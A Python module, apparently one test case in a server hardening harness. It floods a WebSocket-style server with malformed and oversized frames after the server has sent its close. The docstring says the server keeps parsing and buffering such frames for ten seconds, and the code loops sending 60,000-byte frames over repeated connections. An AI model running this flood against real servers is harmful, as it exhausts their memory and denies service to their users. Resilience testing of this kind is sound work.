"""Frames that come after the server has said goodbye: for ten seconds all of them are parsed and kept in memory.

Twenty messages that are none, in one breath, let the line pause and then close; `close` reads on, and nothing pauses
it again. Right would be: who was told goodbye is heard no more.
"""

from begin import SECONDS
from hostile import try_ways
from stranger import TEXT, Stranger, frame
from ways import Way

LARGE = frame(TEXT, b" " * 60_000) * 20


class AfterGoodbye(Way):
    name = "large frames after the goodbye"

    def prepare(self, stranger: Stranger) -> None:
        self.token = stranger.person()
        self.table = stranger.popular(self.token)

    def attack(self, stranger: Stranger) -> None:
        def flood() -> None:
            cable = stranger.at(self.table, self.token)
            try:
                cable.push(frame(TEXT, b"{") * 60)
                while stranger.on:
                    cable.push(LARGE)
                    stranger.counts["megabytes"] += 1
            finally:
                cable.close()

        stranger.again(flood, "connections")


if __name__ == "__main__":
    try_ways([AfterGoodbye], SECONDS)
